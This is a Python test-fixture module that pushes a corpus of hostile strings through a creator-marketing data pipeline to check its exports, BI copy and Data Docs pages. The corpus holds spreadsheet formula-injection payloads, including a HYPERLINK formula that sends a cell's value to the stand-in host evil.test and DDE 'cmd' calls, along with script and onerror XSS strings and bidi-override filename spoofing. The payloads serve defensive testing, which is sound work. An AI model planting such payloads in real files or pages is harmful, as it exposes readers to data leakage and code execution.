"""A hostile corpus, and a small sandbox world that carries it through the CRM exports and the
platform APIs' free-text fields (issue 17, item 10).

The corpus holds what a creator, a manager or a caption can contain: spreadsheet formulas, HTML
that would run in a browser, bidirectional controls that reorder what a reader sees, a string
longer than an Excel cell, NUL bytes, emoji, quotes, commas and line breaks. It goes only into
free-text fields (names, niche, campaign name and brand, deliverables, captions, titles and
descriptions, the start of every comment); ids, handles and currencies have admission checks
of their own. One campaign's `brand_handle` carries HTML too: it fails the landing expectation
that a handle starts with `@` (a warning), so the value reaches a Great Expectations Data Docs
page as a failing value.

`build_hostile_world` lands the world's last two days through the extractors (the in-process
bootstrap), loads them, builds dbt, validates both stages (Data Docs), publishes the BI copy
through the mart gate and writes the export: every output a person or a BI tool reads. It runs
once per test run; each module that reads the outputs gets a copy of its own
(`hostile_pipeline`, tests/prepared.py).
"""

from __future__ import annotations

import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

import pytest

# --- the corpus -----------------------------------------------------------------------------

FORMULA_EQUALS = '=HYPERLINK("http://evil.test/?leak="&A1,"Click, here")'
FORMULA_PLUS = "+1+cmd|' /C calc'!A0"
FORMULA_MINUS = "-2+3+cmd|' /C calc'!A0"
FORMULA_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
LEADING_TAB = "\t=1+2"
LEADING_CR = "\r=1+2"
SCRIPT = '<script>alert("pwned")</script>'
IMG = "<img src=x onerror=alert(1)>"
BIDI = "invoice \u202egnp.exe\u202c, \u2066isolated\u2069 \u202aembedded\u202c \u202b\u202d"
LONG = "Long " + "x" * 40_000
NUL = "nul\x00byte"
EMOJI = "Zoë 🎉 👩🏽‍💻 ✨"
QUOTES = 'She said "hi", then\nleft; it\'s fine,\r\nreally'
MARKUP = "<b>bold</b> & <i>co</i>"
ERROR_CODE = "#N/A"  # a spreadsheet error value, not text, unless written as text

CORPUS: tuple[str, ...] = (
    FORMULA_EQUALS,
    FORMULA_PLUS,
    FORMULA_MINUS,
    FORMULA_AT,
    LEADING_TAB,
    LEADING_CR,
    SCRIPT,
    IMG,
    BIDI,
    LONG,
    NUL,
    EMOJI,
    QUOTES,
    MARKUP,
    ERROR_CODE,
)
# A CRM cell is trimmed when it is read (extractors/crm.py), so the corpus entries that start
# or end with whitespace go only into the API text, which lands as received.
CRM_CORPUS = tuple(text for text in CORPUS if text == text.strip())
# The brand handle that reaches Data Docs: markup, bidi controls, a NUL and 40,000 characters.
DOCS_HANDLE = SCRIPT + "\u202e\x00" + "y" * 40_000

# Column -> values, given to the rows of each CRM file in order (cycling).
CRM_TEXT: dict[str, dict[str, tuple[str, ...]]] = {
    "creators": {
        "display_name": (FORMULA_EQUALS, SCRIPT, BIDI + " " + NUL, LONG),
        "manager": (FORMULA_PLUS, IMG, NUL, ERROR_CODE),
        "niche": (QUOTES, FORMULA_MINUS, FORMULA_AT, MARKUP),
    },
    "campaigns": {
        "name": (IMG + " launch", EMOJI + ' "Spring", sale'),
        "brand": (FORMULA_AT, QUOTES),
        "brand_handle": (IMG, DOCS_HANDLE),
    },
    "contracts": {"deliverables": CRM_CORPUS},
}

# --- the world ------------------------------------------------------------------------------

SEED, ACCOUNTS, WORLD_DAYS = 7, 8, 20  # 4 creators, 3 campaigns, 9 contracts by the last day
LANDED_DAYS = 2  # the world's last days, landed through the extractors


def hostile_text(account_index: int, post_index: int) -> tuple[str, str]:
    """(title, description) of a post: the corpus, in turn, so every entry reaches fct_post."""
    n = account_index * 5 + post_index
    return CORPUS[n % len(CORPUS)], CORPUS[(n + 1) % len(CORPUS)]


def hostile_comment_class() -> type:
    """sandbox.comments.PostComments whose every comment starts with an entry of the corpus
    (chosen by the comment's id, so a comment listed again reads the same), then its usual
    sentence: the sentence keeps most comments scorable, so hostile text reaches the report's
    most liked positive and negative comments."""
    from sandbox.comments import PostComments

    class HostileComments(PostComments):
        def text(self, i: int) -> str:
            entry = CORPUS[zlib.crc32(self.ids[i].encode()) % len(CORPUS)]
            return f"{entry} {super().text(i)}"

    return HostileComments


def hostile_world_class() -> type:
    from sandbox.world import PostText, World

    class HostileWorld(World):
        """The sandbox world whose every post text comes from the corpus."""

        def _post_text(self, account_index: int, post_index: int) -> PostText:
            title, description = hostile_text(account_index, post_index)
            return PostText(title=title, description=description, tags=())

    return HostileWorld


def hostile_write_crm(world, inbox: str | Path, day: date | None = None, bad_row_share=0.0):
    """sandbox.crm.write_crm with the corpus in the free-text columns."""
    from sandbox.crm import crm_export, write_csv

    files = crm_export(world, day, bad_row_share)
    for entity, columns in CRM_TEXT.items():
        for number, row in enumerate(files[entity].rows):
            for column, values in columns.items():
                row[column] = values[number % len(values)]
    export_day = day or world.end_date  # stamped as that day's export, as write_crm does
    return [write_csv(Path(inbox) / f.name, f.columns, f.rows, export_day) for f in files.values()]


# --- the pipeline ---------------------------------------------------------------------------


@dataclass(frozen=True)
class HostileRun:
    settings: object  # core.config.Settings
    day: str  # the export's day (the world's last)
    export: Path  # the export folder
    inbox: Path


def last_day() -> date:
    """The world's last day, the export's."""
    from irm.demo import WORLD_START

    return WORLD_START + timedelta(days=WORLD_DAYS - 1)


def data_root_at(patch: pytest.MonkeyPatch, root: Path) -> None:
    """Every path of the settings under `root/data`, whatever the environment said."""
    patch.setenv("IRM_DATA_ROOT", str(root / "data"))
    patch.setenv("IRM_DBT_TARGET", "duckdb")
    for variable in (
        "IRM_WAREHOUSE_PATH",
        "IRM_PUBLISHED_PATH",
        "IRM_EXPORTS_DIR",
        "IRM_DATA_DOCS_DIR",
        "IRM_CRM_INBOX",
        "IRM_LANDING_DIR",
    ):
        patch.delenv(variable, raising=False)


def build_hostile_world(root: Path) -> None:
    """Land, load, build, validate, publish and export the hostile world under `root`."""
    import irm.bootstrap
    import sandbox.comments
    from core.config import get_settings
    from expectations import validate_landing
    from exports import write_export
    from irm import tasks
    from irm.bootstrap import bootstrap_from_sandbox, day_range
    from irm.demo import SANDBOX_SECRETS
    from tests.dbt.test_dbt_build import dbt_env, run_dbt
    from warehouse.comment_scores import score_new_comments
    from warehouse.load import load_landing

    patch = pytest.MonkeyPatch()
    data_root_at(patch, root)
    # Where the bootstrap takes them from: its world and its CRM export, the corpus's.
    patch.setattr(irm.bootstrap, "World", hostile_world_class())
    patch.setattr(irm.bootstrap, "write_crm", hostile_write_crm)
    # The comments the platforms serve are made here: each starts with the corpus.
    patch.setattr(sandbox.comments, "PostComments", hostile_comment_class())
    try:
        settings = get_settings()
        last = last_day()
        first = last - timedelta(days=LANDED_DAYS - 1)
        bootstrap_from_sandbox(
            SEED, ACCOUNTS, WORLD_DAYS, day_range(first, last), SANDBOX_SECRETS, lambda _: None
        )
        # The order of irm_transform: validate what landed, load it, score the comments, build,
        # validate, publish.
        landing = validate_landing(None)
        assert landing.success, landing.summary()
        load_landing(settings=settings)
        score_new_comments(settings)
        env = dbt_env(IRM_WAREHOUSE_PATH=str(settings.warehouse_path))
        run_dbt(["build", "--exclude", "test_type:unit"], env, root / "dbt", "duckdb")
        # Checked and published the pipeline's way, through the mart gate (the gate
        # fingerprints the warehouse's marts, and each copy of this world holds the same).
        marts = tasks.validate_marts([last.isoformat()])
        assert marts["success"], marts
        tasks.publish()
        write_export(last)
    finally:
        patch.undo()


@contextmanager
def hostile_pipeline(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostileRun]:
    """The hostile world's outputs (built once per test run, `build_hostile_world`), in a copy
    of this module's own, with the settings pointing at it."""
    from core.config import get_settings
    from tests.prepared import prepared_copy

    root = prepared_copy(tmp_path_factory, "hostile", build_hostile_world)
    patch = pytest.MonkeyPatch()
    data_root_at(patch, root)
    try:
        settings = get_settings()
        day = last_day().isoformat()
        yield HostileRun(settings, day, settings.export_dir_for(day), settings.crm_inbox)
    finally:
        patch.undo()
